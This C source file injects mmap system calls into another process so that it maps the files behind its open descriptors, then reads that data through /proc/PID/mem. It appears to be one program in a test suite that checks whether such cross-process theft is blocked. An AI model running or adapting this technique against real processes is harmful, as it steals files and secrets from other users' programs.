/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Make the process map what is behind each of its descriptors; read it in /proc/PID/mem. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "puppet.h"
#include "theft.h"

#define MOST 256

/* Octets behind a descriptor of memory; 0: it is none. */
static uint64_t
size_behind(pid_t pid, int n)
{
	struct stat st = { 0 };
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
	if (stat(path, &st) != 0 || !S_ISREG(st.st_mode) || st.st_size <= 0 ||
	    st.st_size > (off_t)THEFT_LARGEST)
		return 0;
	return (uint64_t)st.st_size;
}

static void
take(struct theft *t, const struct puppet *p, int *mem, int n)
{
	struct area a = { .end = size_behind(t->pid, n) };
	long at = 0, size = (long)a.end;

	if (size == 0)
		return;
	at = puppet_call(p, SYS_mmap, 0, size, PROT_READ, MAP_SHARED, n, 0);
	if (PUPPET_ERROR(at)) {
		t->error = t->error == 0 ? (int)-at : t->error;
		return;
	}
	a.start = (uint64_t)at;
	a.end += a.start;
	theft_copy(t, &a, theft_from_fd, mem);
	(void)puppet_call(p, SYS_munmap, at, size);
}

int
main(int argc, char **argv)
{
	struct puppet p = { 0 };
	static struct theft t;
	char path[64];
	int mem = -1;

	theft_begin(&t, argc, argv);
	snprintf(path, sizeof(path), "/proc/%d/mem", t.pid);
	mem = open(path, O_RDONLY | O_CLOEXEC);
	if (mem < 0)
		theft_failed(path, errno);
	puppet_take(&p, &t);
	for (int n = 0; n < MOST; n++)
		take(&t, &p, &mem, n);
	puppet_leave(&p);
	if (t.octets == 0 && t.error == 0)
		theft_refused("no descriptor has memory behind it");
	theft_end(&t, "mmap(2) of its descriptors injected");
}
